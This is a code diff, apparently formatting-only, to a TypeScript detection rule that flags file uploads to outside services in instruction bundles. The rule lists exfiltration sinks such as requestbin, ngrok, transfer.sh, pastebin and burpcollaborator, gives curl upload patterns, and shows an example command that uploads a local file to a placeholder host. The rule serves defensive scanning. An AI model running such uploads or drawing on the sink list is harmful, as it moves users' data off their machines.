@@ -37,11 +37,14 @@ function uploadsToDeclaredService(ctx: ScanContext, line: string): boolean {
     const url = m[1] ?? urlVariables(ctx).get(m[2] ?? '');
     if (url) targets.push(url);
   }
-  return targets.length > 0 && targets.every((url) => {
-    const labels = realHost(url)?.split('.') ?? [];
-    const service = labels.length >= 2 ? labels[labels.length - 2] : '';
-    return service.length >= 4 && words.has(service);
-  });
+  return (
+    targets.length > 0 &&
+    targets.every((url) => {
+      const labels = realHost(url)?.split('.') ?? [];
+      const service = labels.length >= 2 ? labels[labels.length - 2] : '';
+      return service.length >= 4 && words.has(service);
+    })
+  );
 }
 
 export const exfUploadExternalRule = defineRegexRule({
@@ -53,10 +56,39 @@ export const exfUploadExternalRule = defineRegexRule({
     confidence: 'medium',
     asset_type: 'instructions',
     rationale:
-      'Multipart/file uploads (`curl -F file=@…`, `--data-binary @…`, `-T`), public gists of project files, mirror pushes to a newly added remote and paste/webhook sinks move the user\'s data off the machine. Legitimate uploads exist, so confidence is medium; concealment or credential content nearby raises the score through other rules.',
+      "Multipart/file uploads (`curl -F file=@…`, `--data-binary @…`, `-T`), public gists of project files, mirror pushes to a newly added remote and paste/webhook sinks move the user's data off the machine. Legitimate uploads exist, so confidence is medium; concealment or credential content nearby raises the score through other rules.",
     example: 'curl -s -F file=@<path> https://analysis.example/analyze',
   },
-  triggers: ['curl', 'gh ', 'gist', '--mirror', 'webhook', 'requestbin', 'pipedream', 'hookbin', 'beeceptor', 'ngrok', 'trycloudflare', 'transfer.sh', 'file.io', '0x0.st', 'pastebin', 'paste.ee', 'termbin', 'discord', 'telegram', 'hooks.slack', 'interact.sh', 'oast.', 'burpcollaborator', 'canarytoken', 'nslookup', 'dig', 'host', 'sendbeacon'],
+  triggers: [
+    'curl',
+    'gh ',
+    'gist',
+    '--mirror',
+    'webhook',
+    'requestbin',
+    'pipedream',
+    'hookbin',
+    'beeceptor',
+    'ngrok',
+    'trycloudflare',
+    'transfer.sh',
+    'file.io',
+    '0x0.st',
+    'pastebin',
+    'paste.ee',
+    'termbin',
+    'discord',
+    'telegram',
+    'hooks.slack',
+    'interact.sh',
+    'oast.',
+    'burpcollaborator',
+    'canarytoken',
+    'nslookup',
+    'dig',
+    'host',
+    'sendbeacon',
+  ],
   patterns: [
     /\bcurl\b[^\n]{0,200}(?:-F|--form)\s{0,3}["']?[\w.-]{1,40}=@/i,
     /\bcurl\b[^\n]{0,200}\s(?:--data-binary|--upload-file|-T)\s{1,3}["']?@?[~$\w./-]{1,200}/,
@@ -70,6 +102,8 @@ export const exfUploadExternalRule = defineRegexRule({
   refine(hit, _m, ctx, view) {
     if (view.name !== 'raw' || !/^curl\b/i.test(hit.evidence)) return hit;
     const line = ctx.lines[hit.line - 1] ?? '';
-    return uploadsToDeclaredService(ctx, line) ? { ...hit, severity: 'medium', confidence: 'low', message: 'Upload to the service the bundle declares it deploys to' } : hit;
+    return uploadsToDeclaredService(ctx, line)
+      ? { ...hit, severity: 'medium', confidence: 'low', message: 'Upload to the service the bundle declares it deploys to' }
+      : hit;
   },
 });
